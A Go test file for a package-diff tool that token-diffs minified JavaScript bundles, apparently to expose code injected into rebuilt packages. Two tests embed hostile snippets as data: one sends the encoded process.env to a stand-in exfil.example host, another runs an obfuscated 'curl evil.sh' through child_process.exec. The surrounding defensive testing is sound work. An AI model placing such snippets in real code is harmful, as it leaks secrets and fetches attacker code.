package diff

import (
	"context"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
)

// minifiedBundle returns a one-line "bundle" of about size bytes built
// from numbered functions; rename gives every local identifier another
// name, as a rebuild with a different minifier state does.
func minifiedBundle(size int, rename string) string {
	var b strings.Builder
	b.WriteString("!function(){\"use strict\";")
	for i := 0; b.Len() < size; i++ {
		b.WriteString("function f" + itoa(i) + "(" + rename + "a," + rename + "b){return " + rename + "a+" + rename + "b*" + itoa(i%97) + "}var v" + itoa(i) + "=f" + itoa(i) + "(" + itoa(i) + ",2);")
	}
	b.WriteString("}();")
	return b.String()
}

func addedText(f FileDiff) string {
	var b strings.Builder
	for _, h := range f.Hunks {
		for _, l := range h.Lines {
			if l.Kind == Add {
				b.WriteString(l.Text)
			}
		}
	}
	return b.String()
}

func TestTokenDiffInjectedSnippet(t *testing.T) {
	old := minifiedBundle(5<<20, "")
	mid := len(old) / 2
	// Insert after a ";" so the snippet is whole tokens.
	mid += strings.IndexByte(old[mid:], ';') + 1
	snippet := `fetch("https://exfil.example/"+btoa(JSON.stringify(process.env)));`
	new := old[:mid] + snippet + old[mid:]

	res, err := Compare(context.Background(), pkgOf(map[string]string{"dist/app.min.js": old}, nil),
		pkgOf(map[string]string{"dist/app.min.js": new}, nil), Options{})
	if err != nil {
		t.Fatal(err)
	}
	f := res.Files[0]
	if !f.Minified || !f.TokenDiff || f.Capped != "" {
		t.Fatalf("minified %v token %v capped %q", f.Minified, f.TokenDiff, f.Capped)
	}
	if f.LinesAdded != 1 || f.LinesRemoved != 1 {
		t.Fatalf("line counts +%d -%d, want +1 -1 (one line changed)", f.LinesAdded, f.LinesRemoved)
	}
	if len(f.Hunks) != 1 {
		t.Fatalf("%d hunks, want 1", len(f.Hunks))
	}
	if got := addedText(f); got != snippet {
		t.Fatalf("added text %q, want the snippet", got)
	}
	for _, l := range f.Hunks[0].Lines {
		if l.Kind == Del {
			t.Fatalf("pure insertion shows a removal: %q", l.Text)
		}
		if len(l.Text) > len(snippet)+2*tokenContextBytes {
			t.Fatalf("display line of %d bytes: context not cut", len(l.Text))
		}
		if l.Kind != Del && l.NewNo != 1 {
			t.Fatalf("line number %d, want 1", l.NewNo)
		}
	}
}

func TestTokenDiffRebuiltBundle(t *testing.T) {
	old := minifiedBundle(200<<10, "")
	new := minifiedBundle(200<<10, "_")
	mid := len(new) / 3
	mid += strings.IndexByte(new[mid:], ';') + 1
	snippet := `require("child_process").exec(atob("Y3VybCBldmlsLnNo"));`
	new = new[:mid] + snippet + new[mid:]
	res, err := Compare(context.Background(), pkgOf(map[string]string{"b.js": old}, nil),
		pkgOf(map[string]string{"b.js": new}, nil), Options{})
	if err != nil {
		t.Fatal(err)
	}
	f := res.Files[0]
	if !f.TokenDiff {
		t.Fatal("not token-diffed")
	}
	if !strings.Contains(addedText(f), snippet) {
		t.Fatal("the injected snippet is not among the added tokens")
	}
}

func TestTokenDiffMultiLine(t *testing.T) {
	// A bundle of a few very long lines: line numbers of display lines
	// must be the real ones.
	lines := []string{minifiedBundle(3000, ""), minifiedBundle(3000, "x"), minifiedBundle(3000, "y")}
	old := strings.Join(lines, "\n") + "\n"
	lines[2] = strings.Replace(lines[2], "f7(", "g7(", 1)
	new := strings.Join(lines, "\n") + "\n"
	res, err := Compare(context.Background(), pkgOf(map[string]string{"m.js": old}, nil),
		pkgOf(map[string]string{"m.js": new}, nil), Options{})
	if err != nil {
		t.Fatal(err)
	}
	f := res.Files[0]
	if !f.TokenDiff || f.LinesAdded != 1 || f.LinesRemoved != 1 || len(f.Hunks) != 1 {
		t.Fatalf("token %v +%d -%d hunks %d", f.TokenDiff, f.LinesAdded, f.LinesRemoved, len(f.Hunks))
	}
	for _, l := range f.Hunks[0].Lines {
		if (l.Kind != Add && l.OldNo != 3) || (l.Kind != Del && l.NewNo != 3) {
			t.Fatalf("display line %+v not on line 3", l)
		}
		switch {
		case l.Kind == Del && l.Text != "f7":
			t.Fatalf("removed %q, want f7", l.Text)
		case l.Kind == Add && l.Text != "g7":
			t.Fatalf("added %q, want g7", l.Text)
		}
	}
}

func TestTokenDiffCap(t *testing.T) {
	old := minifiedBundle(100<<10, "")
	new := minifiedBundle(100<<10, "z")
	res, err := Compare(context.Background(), pkgOf(map[string]string{"c.js": old}, nil),
		pkgOf(map[string]string{"c.js": new}, nil), Options{MaxTokens: 1000})
	if err != nil {
		t.Fatal(err)
	}
	f := res.Files[0]
	if !f.TokenDiff || !strings.Contains(f.Capped, "1000 tokens") {
		t.Fatalf("token %v capped %q", f.TokenDiff, f.Capped)
	}
	if len(addedText(f)) == 0 {
		t.Fatal("capped diff shows nothing")
	}
}

func TestCommonPrefixSuffixBoundaries(t *testing.T) {
	rng := rand.New(rand.NewPCG(4, 4))
	alphabet := "ab_ (;\n\xc3\xa9"
	gen := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[rng.IntN(len(alphabet))]
		}
		return b
	}
	join := func(data []byte, starts []int32) []string {
		var out []string
		for k := range starts {
			end := len(data)
			if k+1 < len(starts) {
				end = int(starts[k+1])
			}
			out = append(out, string(data[starts[k]:end]))
		}
		return out
	}
	for iter := 0; iter < 2000; iter++ {
		common1, common2 := gen(rng.IntN(10)), gen(rng.IntN(10))
		a := append(append(append([]byte{}, common1...), gen(rng.IntN(4))...), common2...)
		b := append(append(append([]byte{}, common1...), gen(rng.IntN(4))...), common2...)
		pre, suf := commonPrefixSuffix(a, b)
		if pre+suf > min(len(a), len(b)) {
			t.Fatalf("prefix %d + suffix %d overlap", pre, suf)
		}
		// Tokenising the middle and adding the prefix and suffix tokens
		// must give the tokens of the whole.
		for _, d := range [][]byte{a, b} {
			whole := join(d, tokenize(d, 0, len(d)))
			var parts []string
			parts = append(parts, join(d[:pre], tokenize(d, 0, pre))...)
			mid := tokenize(d, pre, len(d)-suf)
			parts = append(parts, join(d[:len(d)-suf], mid)...)
			parts = append(parts, join(d[len(d)-suf:], tokenize(d[len(d)-suf:], 0, suf))...)
			if strings.Join(whole, "|") != strings.Join(parts, "|") {
				t.Fatalf("%q pre %d suf %d: %q vs %q", d, pre, suf, whole, parts)
			}
		}
	}
}

func TestLooksMinified(t *testing.T) {
	normal := strings.Repeat("  const x = require('y');\n", 500)
	tests := []struct {
		name string
		data string
		want bool
	}{
		{"small one-liner", "var a=1;var b=2;", false},
		{"normal code", normal, false},
		{"normal with one long line", normal + strings.Repeat("x", 3000) + "\n", false},
		{"single long line", strings.Repeat("a=b;", 1000), true},
		{"source map", `{"version":3,"mappings":"` + strings.Repeat("AAAA,", 2000) + `"}`, true},
		{"mostly long lines", strings.Repeat(strings.Repeat("c", 1500)+"\n", 3) + "x\ny\nz\n", true},
	}
	for _, tc := range tests {
		d := []byte(tc.data)
		if got := looksMinified(d, lineIndex(d)); got != tc.want {
			t.Errorf("%s: %v, want %v", tc.name, got, tc.want)
		}
	}
}

// FuzzTokenOps checks the token alignment itself: its runs cover both
// texts in order, equal runs are equal, so old and new are rebuilt exactly.
func FuzzTokenOps(f *testing.F) {
	f.Add([]byte("a=b;c(d)"), []byte("a=b;x;c(d)"))
	f.Add([]byte("héllo wörld"), []byte("hello world"))
	f.Add([]byte(""), []byte("x"))
	f.Fuzz(func(t *testing.T, a, b []byte) {
		if string(a) == string(b) {
			return
		}
		pre, suf := commonPrefixSuffix(a, b)
		on, nn := countTokens(a, pre, len(a)-suf), countTokens(b, pre, len(b)-suf)
		ops := []tokenOp{{equal: true, oldTo: int32(pre), newTo: int32(pre)}}
		ops, capped, err := alignTokens(context.Background(), time.Time{}, a, b, pre, len(a)-suf, len(b)-suf, on, nn, ops)
		if err != nil {
			t.Fatal(err)
		}
		ops = append(ops, tokenOp{equal: true, oldFrom: int32(len(a) - suf), oldTo: int32(len(a)), newFrom: int32(len(b) - suf), newTo: int32(len(b))})
		var ra, rb []byte
		for _, op := range mergeEqual(ops) {
			if op.equal && string(a[op.oldFrom:op.oldTo]) != string(b[op.newFrom:op.newTo]) {
				t.Fatalf("equal run differs: %q vs %q", a[op.oldFrom:op.oldTo], b[op.newFrom:op.newTo])
			}
			if int(op.oldFrom) != len(ra) || int(op.newFrom) != len(rb) {
				t.Fatalf("runs not contiguous at %d/%d", op.oldFrom, op.newFrom)
			}
			ra = append(ra, a[op.oldFrom:op.oldTo]...)
			rb = append(rb, b[op.newFrom:op.newTo]...)
		}
		if string(ra) != string(a) || string(rb) != string(b) || capped != "" {
			t.Fatalf("rebuilt %q %q (capped %q)", ra, rb, capped)
		}
		// The counting pass of tokenHunks sizes its arrays exactly.
		ops = mergeEqual(ops)
		count := tokenRender{old: a, new: b, counting: true}
		count.walk(ops)
		hunks, lines := tokenHunks(a, b, ops), 0
		for _, h := range hunks {
			lines += len(h.Lines)
		}
		if count.nHunks != len(hunks) || count.nLines != lines {
			t.Fatalf("counted %d hunks %d lines, made %d and %d", count.nHunks, count.nLines, len(hunks), lines)
		}
		for _, d := range [][]byte{a, b} {
			if n, toks := countTokens(d, 0, len(d)), appendTokens(nil, d, 0, len(d)); n != len(toks) {
				t.Fatalf("%q: counted %d tokens, found %d", d, n, len(toks))
			}
		}
	})
}
